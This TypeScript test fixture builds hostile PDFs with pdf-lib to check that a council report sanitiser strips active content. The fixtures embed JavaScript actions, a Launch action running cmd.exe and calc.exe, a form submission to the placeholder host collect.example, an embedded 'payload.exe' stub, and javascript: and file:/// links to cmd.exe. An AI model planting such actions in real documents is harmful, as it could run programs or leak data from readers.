/**
 * A corpus of hostile reports, made here with pdf-lib's low-level objects: each carries one kind
 * of active content a council must never publish (scripts, launch actions, form actions, links into
 * other files, media, embedded files, forms, comments, unsafe links), and says what the sanitiser
 * should count. Every page also shows its own visible text, so tests can check it survives.
 */
import { type PDFDict, PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts, type PDFPage, type PDFRef } from 'pdf-lib';
import type { RemovedCounts } from '../../../shared/model/entities';

export interface HostilePdf {
  /** The file name the clerk would attach. */
  filename: string;
  /** Text drawn on the page, which must still be there in the pack. */
  visible: string;
  bytes: Uint8Array;
  /** What the sanitiser should report removing (kinds not named: none). */
  removed: Partial<RemovedCounts>;
}

export const GOV_UK = 'https://www.gov.uk/';
export const FORM_VALUE = 'FILLED-FORM-VALUE-WITH-ACROFORM';
export const ORPHAN_FORM_VALUE = 'FILLED-FORM-VALUE-WITHOUT-ACROFORM';
export const DRAWN_FORM_VALUE = 'FILLED-FORM-VALUE-NEEDING-APPEARANCE';
export const COMMENT_AUTHOR = 'Jane Smith (Team Manager)';

const str = (s: string): PDFString => PDFString.of(s);
const text = (s: string): PDFHexString => PDFHexString.fromText(s);

async function page(title: string): Promise<{ doc: PDFDocument; page: PDFPage }> {
  const doc = await PDFDocument.create({ updateMetadata: false });
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const p = doc.addPage([595, 842]);
  p.drawText(title, { x: 50, y: 780, size: 16, font });
  p.drawText('Paragraph: this report describes the service and its outcomes.', { x: 50, y: 750, size: 11, font });
  return { doc, page: p };
}

/** Registers an annotation dictionary on the page; returns its reference. */
function annot(doc: PDFDocument, p: PDFPage, entries: Record<string, unknown>, at = [50, 600, 250, 620]): PDFRef {
  const ref = doc.context.register(doc.context.obj({ Type: 'Annot', Rect: at, Border: [0, 0, 0], ...entries } as never));
  p.node.addAnnot(ref);
  return ref;
}

/** pdf-lib's obj() types literal objects narrowly; these fixtures mix names, strings and references freely. */
const action = (doc: PDFDocument, entries: Record<string, unknown>): PDFDict => doc.context.obj({ Type: 'Action', ...entries } as never) as unknown as PDFDict;
const js = (doc: PDFDocument, code: string): PDFDict => action(doc, { S: 'JavaScript', JS: str(code) });

async function made(filename: string, visible: string, removed: Partial<RemovedCounts>, build: (doc: PDFDocument, p: PDFPage) => void | Promise<void>): Promise<HostilePdf> {
  const { doc, page: p } = await page(visible);
  await build(doc, p);
  return { filename, visible, removed, bytes: await doc.save({ useObjectStreams: false }) };
}

export async function hostileCorpus(): Promise<HostilePdf[]> {
  return Promise.all([
    made('Page open script.pdf', 'Report with page scripts', { scripts: 2 }, (doc, p) => {
      p.node.set(PDFName.of('AA'), doc.context.obj({ O: js(doc, "app.alert('Page open: hostile')"), C: js(doc, "app.alert('Page close')") }));
    }),

    made('Document open script.pdf', 'Report with document scripts', { scripts: 3 }, (doc) => {
      doc.catalog.set(PDFName.of('OpenAction'), js(doc, "app.alert('Document open')"));
      doc.catalog.set(PDFName.of('AA'), doc.context.obj({ WC: js(doc, "app.alert('Will close')") }));
      const tree = doc.context.obj({ Names: [str('init'), doc.context.register(js(doc, 'this.print()'))] });
      doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: tree }));
    }),

    made('Launch link.pdf', 'Report with a launch link', { launches: 1 }, (doc, p) => {
      annot(doc, p, { Subtype: 'Link', A: action(doc, { S: 'Launch', F: str('calc.exe'), Win: doc.context.obj({ F: str('cmd.exe'), P: str('/c calc.exe') }) }) });
    }),

    made('Form actions.pdf', 'Report with form actions', { formActions: 4 }, (doc, p) => {
      const url = doc.context.obj({ FS: 'URL', F: str('https://collect.example/submit') });
      annot(doc, p, { Subtype: 'Link', A: action(doc, { S: 'SubmitForm', F: url, Flags: 4 }) }, [50, 600, 150, 620]);
      annot(doc, p, { Subtype: 'Link', A: action(doc, { S: 'ResetForm' }) }, [50, 560, 150, 580]);
      annot(doc, p, { Subtype: 'Link', A: action(doc, { S: 'ImportData', F: str('answers.fdf') }) }, [50, 520, 150, 540]);
      // A harmless jump whose /Next chain submits the form: the jump stays, the submission goes.
      const next = action(doc, { S: 'SubmitForm', F: url });
      annot(doc, p, { Subtype: 'Link', A: action(doc, { S: 'GoTo', D: [p.ref, 'Fit'], Next: next }) }, [50, 480, 150, 500]);
    }),

    made('Remote links.pdf', 'Report with links into other files', { remoteLinks: 2 }, (doc, p) => {
      annot(doc, p, { Subtype: 'Link', A: action(doc, { S: 'GoToR', F: str('other.pdf'), D: [0, 'Fit'], NewWindow: true }) }, [50, 600, 150, 620]);
      annot(doc, p, { Subtype: 'Link', A: action(doc, { S: 'GoToE', D: [0, 'Fit'], T: doc.context.obj({ R: 'C', N: str('inside.pdf') }) }) }, [50, 560, 150, 580]);
    }),

    made('Media.pdf', 'Report with embedded media', { media: 4 }, (doc, p) => {
      const asset = doc.context.register(doc.context.stream('not really a video', { Type: 'EmbeddedFile' }));
      const fs = doc.context.obj({ Type: 'Filespec', F: str('clip.swf'), UF: text('clip.swf'), EF: doc.context.obj({ F: asset }) });
      annot(doc, p, {
        Subtype: 'RichMedia',
        RichMediaContent: doc.context.obj({ Assets: doc.context.obj({ Names: [str('clip.swf'), fs] }) }),
        RichMediaSettings: doc.context.obj({ Activation: doc.context.obj({ Condition: 'PO' }) }),
      }, [50, 400, 300, 600]);
      const rendition = doc.context.obj({ Type: 'Rendition', S: 'MR', C: doc.context.obj({ Type: 'MediaClip', S: 'MCD', D: fs }) });
      annot(doc, p, { Subtype: 'Screen', A: action(doc, { S: 'Rendition', OP: 0, R: rendition }) }, [50, 300, 300, 390]);
      annot(doc, p, { Subtype: 'Link', A: action(doc, { S: 'Movie', T: str('intro') }) }, [320, 600, 420, 620]);
      annot(doc, p, { Subtype: 'Link', A: action(doc, { S: 'Sound', Sound: doc.context.register(doc.context.stream('RIFF', { Type: 'Sound', R: 8000 })) }) }, [320, 560, 420, 580]);
    }),

    made('Attached files.pdf', 'Report with attached files', { embeddedFiles: 2 }, (doc, p) => {
      const file = (name: string): PDFDict => {
        const ef = doc.context.register(doc.context.stream('MZ this would be a program', { Type: 'EmbeddedFile', Subtype: PDFName.of('application/octet-stream') }));
        return doc.context.obj({ Type: 'Filespec', F: str(name), UF: text(name), EF: doc.context.obj({ F: ef }) });
      };
      const tree = doc.context.obj({ Names: [str('payload.exe'), doc.context.register(file('payload.exe'))] });
      doc.catalog.set(PDFName.of('Names'), doc.context.obj({ EmbeddedFiles: tree }));
      annot(doc, p, { Subtype: 'FileAttachment', FS: file('notes.docm'), Contents: text('Open me'), Name: 'PushPin' }, [50, 600, 70, 620]);
    }),

    made('Filled form.pdf', 'Report with a filled-in form', { forms: 1, scripts: 1 }, (doc, p) => {
      const form = doc.getForm();
      const field = form.createTextField('applicant');
      field.setText(FORM_VALUE);
      field.addToPage(p, { x: 50, y: 600, width: 400, height: 24 });
      const box = form.createCheckBox('agreed');
      box.addToPage(p, { x: 50, y: 560, width: 16, height: 16 });
      box.check();
      // A keystroke script on the field's widget.
      field.acroField.getWidgets()[0]?.dict.set(PDFName.of('AA'), doc.context.obj({ K: js(doc, "app.alert('typed')") }));
    }),

    made('Form without AcroForm.pdf', 'Report with form widgets but no AcroForm', { forms: 1 }, (doc, p) => {
      const field = doc.getForm().createTextField('orphan');
      field.setText(ORPHAN_FORM_VALUE);
      field.addToPage(p, { x: 50, y: 600, width: 400, height: 24 });
      doc.getForm().updateFieldAppearances();
      doc.catalog.delete(PDFName.of('AcroForm'));
    }),

    made('Form needing appearances.pdf', 'Report with a form its reader must draw', { forms: 1 }, (doc, p) => {
      const field = doc.getForm().createTextField('unseen');
      field.setText(DRAWN_FORM_VALUE);
      field.addToPage(p, { x: 50, y: 600, width: 400, height: 24 });
      doc.getForm().updateFieldAppearances();
      // As some form fillers save: the value, no appearance, and "NeedAppearances" for the reader.
      field.acroField.getWidgets()[0]?.dict.delete(PDFName.of('AP'));
      doc.getForm().acroForm.dict.set(PDFName.of('NeedAppearances'), doc.context.obj(true));
    }),

    made('Sticky note.pdf', 'Report with comments', { comments: 2 }, (doc, p) => {
      const note = annot(doc, p, { Subtype: 'Text', Contents: text(`${COMMENT_AUTHOR}: this child should not be named here`), T: text(COMMENT_AUTHOR), Open: true, Name: 'Comment' }, [500, 780, 520, 800]);
      const popup = annot(doc, p, { Subtype: 'Popup', Parent: note, Open: true }, [350, 650, 550, 780]);
      (doc.context.lookup(note) as PDFDict).set(PDFName.of('Popup'), popup);
      annot(doc, p, { Subtype: 'FreeText', Contents: text(`Checked by ${COMMENT_AUTHOR}`), T: text(COMMENT_AUTHOR), DA: str('/Helv 10 Tf 0 g') }, [50, 650, 300, 670]);
    }),

    made('Script link.pdf', 'Report with unsafe links', { unsafeLinks: 2 }, (doc, p) => {
      annot(doc, p, { Subtype: 'Link', A: action(doc, { S: 'URI', URI: str("javascript:app.alert('link')") }) }, [50, 600, 150, 620]);
      annot(doc, p, { Subtype: 'Link', A: action(doc, { S: 'URI', URI: str('file:///C:/Windows/System32/cmd.exe') }) }, [50, 560, 150, 580]);
    }),

    made('Gov.uk link.pdf', 'Report with a safe link', {}, (doc, p) => {
      annot(doc, p, { Subtype: 'Link', A: action(doc, { S: 'URI', URI: str(GOV_UK) }) }, [50, 600, 250, 620]);
      annot(doc, p, { Subtype: 'Link', A: action(doc, { S: 'URI', URI: str('mailto:clerk@northbrook.gov.uk') }) }, [50, 560, 250, 580]);
    }),
  ]);
}
